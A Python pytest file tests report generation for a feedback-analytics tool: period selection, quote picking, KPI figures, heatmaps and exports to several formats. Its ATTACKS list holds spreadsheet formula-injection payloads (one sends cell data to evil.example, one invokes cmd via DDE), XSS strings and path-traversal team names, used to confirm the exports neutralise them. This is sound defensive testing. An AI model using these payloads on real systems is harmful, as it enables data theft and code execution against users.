"""Team reports: the period, the quotes, every format, and numbers equal to the views'."""

from __future__ import annotations

import re
from datetime import date

import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook
from support.handmade import refresh
from support.stores import same_number, write_bytes
from typer.testing import CliRunner

from vocmine.cli import app
from vocmine.config import Kpi, SourceConfig, TeamConfig
from vocmine.ingest import ingest_files
from vocmine.report.data import report_period, team_report
from vocmine.report.export import report_tables
from vocmine.report.verbatims import pick_verbatims
from vocmine.report.write import FORMATS, write_report
from vocmine.store.publish import publish

TEAMS = {"billing": TeamConfig(stages=["billing"], kpis=[
    Kpi(metric="volume"), Kpi(metric="negative_share", target=0.5), Kpi(metric="rating", target=3.5),
    Kpi(metric="handle_time", target=600), Kpi(metric="repeat", target=0.2)]),
    "everyone": TeamConfig()}


@pytest.mark.parametrize(("kind", "as_of", "start", "previous"), [
    ("week", date(2026, 11, 23), date(2026, 11, 16), date(2026, 11, 9)),    # a Monday: last week is complete
    ("week", date(2026, 11, 25), date(2026, 11, 16), date(2026, 11, 9)),    # mid-week: still last full week
    ("month", date(2026, 11, 23), date(2026, 10, 1), date(2026, 9, 1)),
    ("month", date(2026, 1, 2), date(2025, 12, 1), date(2025, 11, 1)),
])
def test_report_period_is_the_last_complete_one(fresh_db, kind, as_of, start, previous):
    period = report_period(fresh_db, kind, as_of)
    assert (period.start, period.previous_start) == (start, previous)
    assert period.end > period.start and period.history_start <= period.previous_start


def test_report_period_needs_feedback(fresh_db):
    with pytest.raises(ValueError, match="no feedback yet: nothing to report"):
        report_period(fresh_db, "week")


def test_report_verbatims_are_typical_but_varied():
    rows = [{"theme_id": 1, "text": text, "source": source} for text, source in [
        ("charged twice for my bill this month", "reviews"),
        ("charged twice for my bill this month!", "reviews"),      # the same sentence again
        ("I was charged twice for my bill in May", "complaints"),  # mostly the same words
        ("ok", "call_notes"),                                      # too short to quote
        ("the refund for the double payment never arrived", "reviews"),
        ("billing team took two payments from my card", "call_notes")]]
    quotes = [q["text"] for q in pick_verbatims(rows)[1]]
    assert quotes == ["charged twice for my bill this month", "billing team took two payments from my card",
                      "the refund for the double payment never arrived"]


@pytest.fixture
def team_store(handmade_store):
    refresh(handmade_store, teams=TEAMS)
    return handmade_store


def test_report_numbers_are_the_views_numbers(team_store):
    report = team_report(team_store, "billing", TEAMS["billing"], period="week")
    assert report.period.start == date(2026, 10, 19)
    views = {(m, s): v for m, s, v in team_store.execute(
        "SELECT metric, period_start, value FROM team_kpis WHERE team = 'billing' AND period = 'week'").fetchall()}
    for kpi in report.kpis:
        assert same_number(kpi.value, views.get((kpi.metric, report.period.start)))
        assert same_number(kpi.previous, views.get((kpi.metric, report.period.previous_start)))
    everyone = team_report(team_store, "everyone", TEAMS["everyone"], period="month")
    assert [r["theme_id"] for r in everyone.priorities] == \
        [r[0] for r in team_store.execute("SELECT theme_id FROM priorities ORDER BY priority_rank").fetchall()]
    for name, as_of in (("billing", date(2026, 10, 1)), ("everyone", date(2026, 11, 1))):  # September, October
        report = team_report(team_store, name, TEAMS[name], period="month", as_of=as_of)
        assert report.heatmap
        _assert_heatmaps_are_the_views_cells(team_store, report)


def _cells(rows) -> dict[tuple[str, str], tuple[int, float | None]]:
    return {(r[0], r[1]): (r[2], r[3]) for r in rows}


def _assert_heatmaps_are_the_views_cells(con, report):
    """Cell by cell, the report's heatmaps are the period's rows of the two views; and every
    segment of a cell is counted once across the periods (the months add up to stage_touchpoint)."""
    key = [report.team, report.period.kind, report.period.start]
    team = _cells(con.execute("SELECT journey_stage, touchpoint, volume, negative_share FROM "
                              "team_stage_touchpoint_periods WHERE team = ? AND period = ? AND period_start = ?",
                              key).fetchall())
    company = _cells(con.execute("SELECT journey_stage, touchpoint, volume, negative_share FROM "
                                 "stage_touchpoint_periods WHERE period = ? AND period_start = ?", key[1:]).fetchall())
    assert company
    assert _cells((r["journey_stage"], r["touchpoint"], r["volume"], r["negative_share"]) for r in report.heatmap) == team
    assert _cells((r["journey_stage"], r["touchpoint"], r["volume"], r["negative_share"])
                  for r in report.company_heatmap) == company
    all_time = _cells(con.execute("SELECT journey_stage, touchpoint, volume, NULL FROM stage_touchpoint").fetchall())
    monthly = _cells(con.execute("SELECT journey_stage, touchpoint, sum(volume)::BIGINT, NULL FROM "
                                 "stage_touchpoint_periods WHERE period = 'month' GROUP BY ALL").fetchall())
    assert monthly == all_time


def test_report_heatmap_is_the_teams_own(team_store):
    def month(name: str, as_of: date):
        return team_report(team_store, name, TEAMS[name], period="month", as_of=as_of)

    september, october = date(2026, 10, 1), date(2026, 11, 1)
    assert [(r["journey_stage"], r["touchpoint"], r["volume"]) for r in month("billing", september).heatmap] == \
        [("billing", "bill", 4)]
    assert month("billing", october).heatmap == []   # no billing feedback in October: nothing of the team's
    everyone = month("everyone", october)
    assert {(r["journey_stage"], r["touchpoint"]) for r in everyone.heatmap} == {("delivery", "delivery"),
                                                                               ("purchase", "store")}
    assert everyone.heatmap == everyone.company_heatmap == month("billing", october).company_heatmap


def test_report_writes_every_format_with_the_same_numbers(team_store, tmp_path):
    report = team_report(team_store, "everyone", TEAMS["everyone"], period="week")
    paths = write_report(report, tmp_path, FORMATS)
    html = (tmp_path / "everyone-week-2026-10-19.html").read_text(encoding="utf-8")
    assert "<script" not in html and "http://" not in html.replace('xmlns="http://www.w3.org/2000/svg"', "")
    for kpi in report.kpis:
        assert f"data-value='{kpi.value}'" in html
    assert html.count('class="chart"') >= 4
    markdown = (tmp_path / "everyone-week-2026-10-19.md").read_text(encoding="utf-8")
    assert all(kpi.title in markdown for kpi in report.kpis)
    book = load_workbook(tmp_path / "everyone-week-2026-10-19.xlsx")
    assert book["kpis"].max_row == len(report.kpis) + 1
    assert {p.name for p in paths if p.parent.name == "everyone-week-2026-10-19"} >= {"kpis.csv", "kpis.parquet"}


def test_report_tables_keep_their_columns_in_a_period_with_no_rows(team_store, tmp_path):
    busy = report_tables(team_report(team_store, "everyone", TEAMS["everyone"], period="month"))
    quiet = team_report(team_store, "everyone", TEAMS["everyone"], period="month", as_of=date(2020, 1, 6))
    tables = report_tables(quiet)
    assert {name for name, table in tables.items() if table.num_rows == 0} >= {"movers", "trends", "verbatims"}
    expected = {name: table.column_names for name, table in busy.items() if table.num_rows} | {
        view: [d[0] for d in team_store.execute(f"SELECT * FROM {view} LIMIT 0").description]
        for view in ("priorities",)} | {
        "journey_heatmap": ["journey_stage", "touchpoint", "volume", "negative_share"],
        "journey_heatmap_company": ["journey_stage", "touchpoint", "volume", "negative_share"],
        "emerging": [d[0] for d in team_store.execute("SELECT * FROM emerging_themes LIMIT 0").description],
        "verbatims": ["theme", "theme_id", "text", "source", "kind", "received_at", "rating", "similarity"]}
    assert {name: table.column_names for name, table in tables.items()} == expected
    write_report(quiet, tmp_path, ["csv", "parquet", "xlsx"])
    folder, book = tmp_path / "everyone-month-2019-12-01", load_workbook(tmp_path / "everyone-month-2019-12-01.xlsx")
    for name, columns in expected.items():
        assert pacsv.read_csv(folder / f"{name}.csv").column_names == columns, name
        assert pq.read_schema(folder / f"{name}.parquet").names == columns, name
        assert [c.value for c in book[name][1]] == columns, name


def test_report_refuses_a_team_the_views_do_not_know(team_store):
    with pytest.raises(ValueError, match="vocmine views"):
        team_report(team_store, "marketing", TeamConfig())


def test_report_cli_writes_one_report_per_team_from_the_published_copy(team_store, tmp_path):
    published = publish(team_store, tmp_path / "published", parquet=False).database
    config = tmp_path / "vocmine.toml"
    config.write_text('[teams.billing]\nstages = ["billing"]\n[teams.everyone]\n'
                      '[outcomes]\nrating = { column = "rating", better = "higher" }\n', encoding="utf-8")
    result = CliRunner().invoke(app, ["report", "--all", "--config", str(config), "--db", str(published),
                                      "--out", str(tmp_path / "out"), "--format", "html", "--period", "month"])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == [
        "billing-month-2026-09-01.html", "everyone-month-2026-09-01.html"]
    assert re.search(r"billing: September 2026", result.output)
    missing = CliRunner().invoke(app, ["report", "--team", "nobody", "--config", str(config), "--db", str(published)])
    assert missing.exit_code == 2 and "unknown team" in missing.output


ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "<script>alert(1)</script> bad service", "<img src=x onerror=alert(1)>"]


def _attacked(team_store):
    import dataclasses

    report = team_report(team_store, "everyone", TEAMS["everyone"], period="week")
    quotes = [{"theme_id": 1, "text": text, "source": "t", "kind": "call_note", "received_at": report.generated_at,
               "rating": None, "similarity": 0.9} for text in ATTACKS]
    return dataclasses.replace(report, verbatims={"=cmd|' /C calc'!A0 <b>label</b>": quotes})


def test_report_spreadsheet_cells_never_start_a_formula(team_store, tmp_path):
    write_report(_attacked(team_store), tmp_path, ["csv", "xlsx"])
    book = load_workbook(tmp_path / "everyone-week-2026-10-19.xlsx")
    cells = [c for row in book["verbatims"].iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert cells and all(c.data_type != "f" and not c.value.startswith(("=", "+", "-", "@")) for c in cells)
    assert {c.value for c in cells} >= {"'" + text for text in ATTACKS[:4]} | {ATTACKS[4]}
    table = pacsv.read_csv(tmp_path / "everyone-week-2026-10-19" / "verbatims.csv").to_pylist()
    texts = [row["text"] for row in table] + [row["theme"] for row in table]
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@"))] and "'" + ATTACKS[0] in texts


def test_report_markdown_escapes_html_and_links(team_store, tmp_path):
    write_report(_attacked(team_store), tmp_path, ["md", "html"])
    markdown = (tmp_path / "everyone-week-2026-10-19.md").read_text(encoding="utf-8")
    assert "<script>" not in markdown and "<img" not in markdown and "<b>" not in markdown
    assert "&lt;script&gt;alert(1)&lt;/script&gt; bad service" in markdown
    html = (tmp_path / "everyone-week-2026-10-19.html").read_text(encoding="utf-8")
    assert "<script>" not in html and "<img src=x" not in html


@pytest.mark.parametrize("team", ["../../../escaped_team", "a/b", ".hidden", ""])
def test_report_refuses_a_team_name_that_is_a_path(team_store, tmp_path, team):
    import dataclasses

    report = dataclasses.replace(team_report(team_store, "everyone", TEAMS["everyone"], period="week"), team=team)
    with pytest.raises(ValueError, match="team name"):
        write_report(report, tmp_path / "reports", ["md"])
    assert not list(tmp_path.rglob("*.md"))


def test_report_period_falls_back_to_the_ingestion_date(fresh_db, tmp_path):
    path = write_bytes(tmp_path, "q.csv", "query\nhow do I top up\n")  # a source that exports no dates
    ingest_files(fresh_db, [path], "queries", SourceConfig(kind="survey", columns={"text": "query"}))
    today = fresh_db.execute("SELECT current_date").fetchone()[0]
    period = report_period(fresh_db, "week")
    assert period.start <= today < period.end + (period.end - period.start) * 2


def test_report_says_which_feedback_is_dated_by_ingestion(team_store, tmp_path):
    """Undated feedback counts on the day it was ingested, and the report says how much."""
    chosen = [r[0] for r in team_store.execute(
        "SELECT DISTINCT feedback_id FROM team_period_segments WHERE team = 'everyone' AND period = 'week' "
        "AND period_start = '2026-10-19' ORDER BY feedback_id").fetchall()]
    team_store.execute("UPDATE feedback SET ingested_at = received_at, received_at = NULL "
                       "WHERE list_contains(?, feedback_id)", [chosen])
    report = team_report(team_store, "everyone", TEAMS["everyone"], period="week")
    assert report.period.start == date(2026, 10, 19) and report.undated == len(chosen) == 2
    write_report(report, tmp_path, ["html", "md"])
    note = "2 feedback of this week came without a received date and are counted on the day they were ingested."
    assert note in (tmp_path / "everyone-week-2026-10-19.md").read_text(encoding="utf-8")
    assert note in (tmp_path / "everyone-week-2026-10-19.html").read_text(encoding="utf-8")
